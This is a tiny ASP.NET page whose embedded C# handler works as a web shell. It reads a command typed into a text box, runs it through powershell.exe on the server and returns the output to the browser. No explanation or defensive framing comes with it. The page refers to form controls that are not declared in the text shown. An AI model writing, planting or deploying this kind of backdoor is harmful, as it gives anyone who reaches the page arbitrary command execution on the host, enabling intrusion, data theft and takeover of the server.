<%@ Page Language="C#" %>
<script runat="server">
void Run_Click(object sender, EventArgs e) {
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "powershell.exe";
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardInput = true;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    p.StandardInput.WriteLine(txtCommand.Text);
    p.StandardInput.Close();
    lblOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
